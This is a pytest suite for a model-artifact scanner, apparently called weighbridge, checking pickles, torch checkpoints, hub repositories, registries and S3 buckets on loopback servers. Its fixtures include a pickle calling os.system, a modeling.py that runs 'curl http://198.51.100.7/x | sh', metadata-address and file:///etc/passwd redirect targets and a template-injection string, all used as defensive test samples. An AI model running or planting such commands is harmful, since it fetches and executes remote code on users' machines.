"""Artifacts behind addresses, against servers on loopback: the bytes fetched, the faults survived, the tricks refused."""

from __future__ import annotations

import json
import struct
import time
from pathlib import Path

import pytest

from tests.corpus.assemble import call, stream
from tests.corpus.binaries import gguf, onnx_model
from tests.corpus.repositories import CHATML, SAFE, config
from tests.corpus.rules import PLAIN, TORCH
from tests.servers import COMMIT, Sparse, Web, hub, registry, serve
from weighbridge import Options, scan
from weighbridge.schema import Outcome, SourceError, Status, UsageError
from weighbridge.source import http
from weighbridge.source.cache import Cache
from weighbridge.source.http import HttpBlob, Refused, Session

BAD = stream(call("os.system", "id"))
GIB = 1 << 30


@pytest.fixture(autouse=True)
def surroundings(monkeypatch, tmp_path):
    monkeypatch.setenv("WEIGHBRIDGE_CACHE", str(tmp_path / "cache"))
    for name in ("HF_TOKEN", "HF_ENDPOINT", "WEIGHBRIDGE_HTTP_TOKEN", "HTTP_PROXY", "HTTPS_PROXY"):
        monkeypatch.delenv(name, raising=False)


def rules(report):
    return {finding.rule for finding in report.findings}


def huge_safetensors(size):
    header = json.dumps({"w": {"dtype": "U8", "shape": [size], "data_offsets": [0, size]}}).encode()
    return Sparse(8 + len(header) + size, [(0, struct.pack("<Q", len(header)) + header)])


def huge_torch(tensors, each):
    """A torch checkpoint whose storages are holes: the zip is written for real, with small members, then stretched."""
    pickles = {f"w{n}": ("t", n) for n in range(tensors)}
    import pickle

    pieces, directory, at = [], [], 0
    members = [
        ("m/data.pkl", pickle.dumps(pickles, 2)),
        ("m/version", b"3\n"),
        *((f"m/data/{n}", each) for n in range(tensors)),
    ]
    for name, data in members:
        size = data if isinstance(data, int) else len(data)
        raw = name.encode()
        extra = struct.pack("<HHQQ", 1, 16, size, size)
        head = (
            struct.pack("<IHHHHHIIIHH", 0x04034B50, 45, 0, 0, 0, 0, 0, 0xFFFFFFFF, 0xFFFFFFFF, len(raw), len(extra))
            + raw
            + extra
        )
        if not isinstance(data, int):
            import zlib

            head = head[:14] + struct.pack("<I", zlib.crc32(data)) + head[18:]
        pieces.append((at, head + (data if isinstance(data, bytes) else b"")))
        entry = struct.pack("<HHQQQ", 1, 24, size, size, at)
        directory.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 45, 45, 0, 0, 0, 0, struct.unpack("<I", head[14:18])[0], 0xFFFFFFFF, 0xFFFFFFFF, len(raw), len(entry), 0, 0, 0, 0, 0xFFFFFFFF)
            + raw + entry
        )  # fmt: skip
        at += len(head) + size
    central = b"".join(directory)
    end64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, len(members), len(members), len(central), at)
    locator = struct.pack("<IIQI", 0x07064B50, 0, at + len(central), 1)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 0xFFFF, 0xFFFF, 0xFFFFFFFF, 0xFFFFFFFF, 0)
    pieces.append((at, central + end64 + locator + end))
    return Sparse(at + len(central) + len(end64) + len(locator) + len(end), pieces)


# Plain HTTP


def test_a_file_is_judged_where_it_lies():
    with serve(Web({"/m.pkl": BAD, "/good.pt": TORCH})) as base:
        assert scan([f"{base}/m.pkl"]).verdict.outcome is Outcome.BLOCK
        good = scan([f"{base}/good.pt"])
    assert good.verdict.outcome is Outcome.ADMIT
    assert 0 < good.artifact.received <= 4 * len(TORCH)


def test_a_server_without_ranges_is_read_once():
    web = Web({"/m.pkl": BAD}, ranges=False)
    with serve(web) as base:
        report = scan([f"{base}/m.pkl"])
    assert report.verdict.outcome is Outcome.BLOCK
    assert len(web.log) == 1
    assert report.artifact.received == len(BAD)


@pytest.mark.parametrize(
    "make", [lambda: huge_safetensors(100 * GIB), lambda: huge_torch(400, GIB // 4)], ids=["safetensors", "torch"]
)
def test_a_hundred_gibibytes_cost_less_than_twenty_megabytes(make):
    data = make()
    with serve(Web({"/model.bin": data})) as base:
        report = scan([f"{base}/model.bin"])
    assert report.artifact.size > 99 * GIB
    assert report.artifact.received < 20_000_000
    assert {entry.status for entry in report.coverage} == {Status.INSPECTED}


def test_a_cut_is_resumed_where_it_broke_off():
    data = b"\x80\x04" + bytes(range(256)) * 4000
    web = Web({"/a": data}, cut=3)
    with serve(web) as base:
        blob = HttpBlob(Session(backoff=0), f"{base}/a", size=len(data))
        assert blob.read(10, 500_000) == data[10:500_010]
    starts = [int(headers["Range"][6:].split("-")[0]) for _, _, headers in web.log]
    assert starts == sorted(set(starts)), "no byte is asked for twice"


def test_a_server_that_always_cuts_is_given_up(monkeypatch):
    web = Web({"/a": bytes(500_000)}, cut=10**6)
    with serve(web) as base, pytest.raises(SourceError, match="cut"):
        HttpBlob(Session(backoff=0), f"{base}/a", size=500_000).read(0, 400_000)
    del monkeypatch


@pytest.mark.parametrize("status", [429, 503])
def test_a_busy_server_is_asked_again(status):
    web = Web({"/m.pkl": PLAIN}, status=status, times=2, again=True)
    with serve(web) as base:
        assert scan([f"{base}/m.pkl"]).verdict.outcome is Outcome.ADMIT
    assert len(web.log) > 2


def test_a_server_that_stays_busy_ends_in_a_message(monkeypatch):
    monkeypatch.setattr(http, "_ATTEMPTS", 1)
    with serve(Web({"/a": PLAIN}, status=503, again=True)) as base, pytest.raises(SourceError, match="503") as refusal:
        Session(backoff=0).document(f"{base}/a")
    assert refusal.value.hint


def test_a_server_that_stalls_is_given_up():
    web = Web({"/a": bytes(500_000)}, stall=3)
    started = time.monotonic()
    with serve(web) as base, pytest.raises(SourceError):
        HttpBlob(Session(backoff=0, patience=0.2), f"{base}/a", size=500_000).read(0, 10)
    assert time.monotonic() - started < 60


@pytest.mark.parametrize("how", [{"lie": 100}, {"shift": 7}, {"encoding": "gzip"}])
def test_a_server_that_lies_about_ranges_is_refused(how):
    data = bytes(200_000)
    with serve(Web({"/a": data}, **how)) as base:
        blob = HttpBlob(Session(backoff=0), f"{base}/a", size=len(data))
        with pytest.raises(SourceError):
            [blob.read(at, 10) for at in (0, 100_000)]


def test_a_file_that_changes_is_noticed():
    web = Web({"/a": bytes(200_000)})
    with serve(web) as base:
        blob = HttpBlob(Session(backoff=0), f"{base}/a")
        web.files["/a"] = bytes(300_000)
        with pytest.raises(SourceError, match=r"changed|before"):
            blob.read(150_000, 10)


@pytest.mark.parametrize(
    "target",
    [
        "http://127.0.0.1:9/x",
        "http://10.0.0.1/x",
        "http://169.254.169.254/latest/meta-data",
        "http://[::1]:9/x",
        "http://localhost:9/",
    ],
)
def test_redirects_to_private_addresses_are_refused(target):
    with serve(Web(redirect=target)) as base, pytest.raises(Refused, match="private address"):
        scan([f"{base}/m.pkl"])


@pytest.mark.parametrize("target", ["file:///etc/passwd", "ftp://example.org/x", "gopher://x/"])
def test_redirects_to_other_schemes_are_refused(target):
    with serve(Web(redirect=target)) as base, pytest.raises(Refused, match="scheme"):
        scan([f"{base}/m.pkl"])


def test_redirects_in_circles_end():
    web = Web(redirect="/again")
    with serve(web) as base, pytest.raises(Refused, match="more than"):
        scan([f"{base}/m.pkl"])


def test_a_missing_file_says_what_and_what_next():
    with serve(Web()) as base, pytest.raises(SourceError, match="404") as refusal:
        scan([f"{base}/absent"])
    assert refusal.value.hint == "check the name and the revision"


def test_tokens_stay_with_their_host(monkeypatch):
    monkeypatch.setenv("WEIGHBRIDGE_HTTP_TOKEN", "secret-token")
    other = Web({"/m.pkl": PLAIN})
    with serve(other) as elsewhere:
        web = Web(redirect=f"{elsewhere}/m.pkl")
        with serve(web) as base, pytest.raises(Refused):
            scan([f"{base}/m.pkl"])
    assert web.log[0][2]["Authorization"] == "Bearer secret-token"
    assert other.log == []


def test_signatures_in_addresses_are_never_shown():
    with serve(Web({"/m.pkl": BAD})) as base:
        report = scan([f"{base.replace('http://', 'http://user:word@')}/m.pkl?X-Amz-Signature=abcdef"])
    from weighbridge.output import render_as

    text = render_as("json", report)
    assert "abcdef" not in text
    assert "word@" not in text


def test_offline_refuses_addresses():
    with pytest.raises(UsageError, match="offline"):
        scan(["https://example.org/m.pkl"], options=Options(offline=True))


def test_unknown_schemes_are_refused():
    with pytest.raises(UsageError, match="not read"):
        scan(["ftp://example.org/m.pkl"])


# The cache


def test_the_second_scan_fetches_less():
    with serve(Web({"/m.safetensors": SAFE + b""})) as base:
        first, second = scan([f"{base}/m.safetensors"]), scan([f"{base}/m.safetensors"])
    assert second.artifact.received <= first.artifact.received
    assert first.findings == second.findings


def test_a_cache_that_was_tampered_with_is_not_believed(tmp_path):
    cache = Cache(str(tmp_path))
    cache.put("https://a/b", '"tag"', 0, 5, b"hello")
    assert cache.get("https://a/b", '"tag"', 0, 5) == b"hello"
    assert cache.get("https://a/b", '"other"', 0, 5) is None
    kept = next(path for path in tmp_path.rglob("*") if path.is_file())
    kept.write_bytes(kept.read_bytes()[:-1] + b"X")
    assert cache.get("https://a/b", '"tag"', 0, 5) is None


def test_nothing_is_kept_without_a_validator(tmp_path):
    cache = Cache(str(tmp_path))
    cache.put("https://a/b", "", 0, 5, b"hello")
    assert cache.get("https://a/b", "", 0, 5) is None
    assert cache.size() == (0, 0)


def test_the_cache_is_cleared(tmp_path):
    cache = Cache(str(tmp_path))
    cache.put("https://a/b", '"tag"', 0, 5, b"hello")
    assert cache.clear() == 1
    assert cache.size() == (0, 0)


# A hub


REPOSITORY = {
    **config(auto_map={"AutoModel": "modeling.Model"}),
    "modeling.py": b"import os\nos.system('curl http://198.51.100.7/x | sh')\n",
    "model.safetensors": SAFE,
    "chat_template.jinja": CHATML.encode(),
}


@pytest.fixture
def on_hub(monkeypatch):
    def start(files, **more):
        web = hub(files, **more)
        context = serve(web)
        monkeypatch.setenv("HF_ENDPOINT", context.__enter__())
        started.append(context)
        return web

    started = []
    yield start
    for context in started:
        context.__exit__(None, None, None)


def test_a_repository_is_one_artifact(on_hub):
    on_hub(REPOSITORY)
    report = scan(["hf://org/model"])
    assert {"HFR-001", "HFR-007"} <= rules(report)
    assert report.artifact.files == 4
    assert all(finding.location.path[0].startswith(f"hf://org/model@{COMMIT[:12]}/") for finding in report.findings)


def test_long_listings_are_followed_to_their_end(on_hub):
    on_hub({f"f{n:03}.txt": b"x" for n in range(25)} | {"evil.pkl": BAD}, page=10)
    report = scan([f"hf://org/model@{COMMIT}"])
    assert report.artifact.files == 26
    assert report.verdict.outcome is Outcome.BLOCK


def test_a_gated_repository_needs_its_token(on_hub, monkeypatch):
    web = on_hub(REPOSITORY, private=True, token="hf_secret")
    with pytest.raises(SourceError, match="401"):
        scan(["hf://org/model"])
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    report = scan(["hf://org/model"])
    assert report.artifact.files == 4
    assert "hf_secret" not in str(report)
    assert all(headers.get("Authorization") == "Bearer hf_secret" for _, _, headers in web.log[-4:])


def test_an_unknown_revision_says_so(on_hub):
    on_hub(REPOSITORY)
    with pytest.raises(SourceError, match="no such revision"):
        scan(["hf://org/model@v9"])


@pytest.mark.parametrize("address", ["hf://", "hf://a b/c", "hf://org/model@", "hf://../x/y/z"])
def test_addresses_that_are_none_are_refused(address):
    with pytest.raises(UsageError):
        scan([address])


def test_shards_of_a_huge_model_are_read_by_their_headers(on_hub):
    shards = {f"model-{n:05}-of-00020.safetensors": huge_safetensors(5 * GIB) for n in range(1, 21)}
    on_hub({**config(), **shards})
    report = scan(["hf://org/model"])
    assert report.artifact.size > 99 * GIB
    assert report.artifact.received < 20_000_000
    assert report.verdict.outcome is Outcome.ADMIT


# A registry


def test_an_oci_artifact_is_inspected_layer_by_layer():
    web = registry({"model.gguf": gguf("{{ ''.__class__.__mro__ }}"), "model.onnx": onnx_model()})
    with serve(web) as base:
        report = scan([f"oci://{base[7:]}/org/m:latest"])
    assert {"GGF-009", "TPL-001"} <= rules(report)
    assert report.artifact.files == 3


def test_a_manifest_is_held_to_its_digest():
    web = registry({"a.txt": b"x"})
    with serve(web) as base:
        assert "ARC-004" not in rules(scan([f"oci://{base[7:]}/org/m@{web.digest}"]))
    lying = registry({"a.txt": b"x"}, lie=" ")
    with serve(lying) as base:
        report = scan([f"oci://{base[7:]}/org/m@{lying.digest}"])
    assert report.verdict.outcome is not Outcome.ADMIT


def test_a_registry_that_wants_a_token_gets_one():
    with serve(registry({"m.pkl": BAD}, token="anonymous")) as base:
        assert scan([f"oci://{base[7:]}/org/m"]).verdict.outcome is Outcome.BLOCK


# An object store


@pytest.fixture
def bucket(monkeypatch):
    import boto3
    from moto.server import ThreadedMotoServer

    server = ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    endpoint = f"http://{host}:{port}"
    monkeypatch.setenv("AWS_ENDPOINT_URL", endpoint)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_REGION", "us-east-1")
    client = boto3.client("s3", endpoint_url=endpoint, region_name="us-east-1")
    client.create_bucket(Bucket="models")
    yield client
    server.stop()


def test_an_object_and_a_prefix_are_inspected(bucket):
    bucket.put_object(Bucket="models", Key="a/evil.pkl", Body=BAD)
    bucket.put_object(Bucket="models", Key="a/config.json", Body=b"{}")
    bucket.put_object(Bucket="models", Key="good.pt", Body=TORCH)
    assert scan(["s3://models/good.pt"]).verdict.outcome is Outcome.ADMIT
    report = scan(["s3://models/a/"])
    assert report.verdict.outcome is Outcome.BLOCK
    assert report.artifact.files == 2
    assert report.artifact.received > 0


def test_a_missing_object_says_what_and_what_next(bucket):
    with pytest.raises(SourceError) as refusal:
        scan(["s3://models/absent.pt"])
    assert refusal.value.hint
    del bucket


# The cache of huggingface_hub


def test_a_snapshot_of_the_client_is_scanned_and_never_left(tmp_path):
    from huggingface_hub import snapshot_download

    with serve(hub({**config(), "model.safetensors": SAFE, "evil.pkl": BAD})) as base:
        folder = Path(snapshot_download("org/model", endpoint=base, cache_dir=tmp_path / "cache"))
    assert (folder / "evil.pkl").is_symlink(), "the client links its snapshots into its blobs"
    (tmp_path / "outside").write_bytes(BAD)
    (folder / "escape.bin").symlink_to(tmp_path / "outside")
    report = scan([str(folder)])
    assert {finding.location.path[0].rsplit("/", 1)[-1] for finding in report.findings} == {"evil.pkl", "escape.bin"}
    assert {"PKL-001", "SCN-010"} <= rules(report)
    assert report.artifact.files == 3
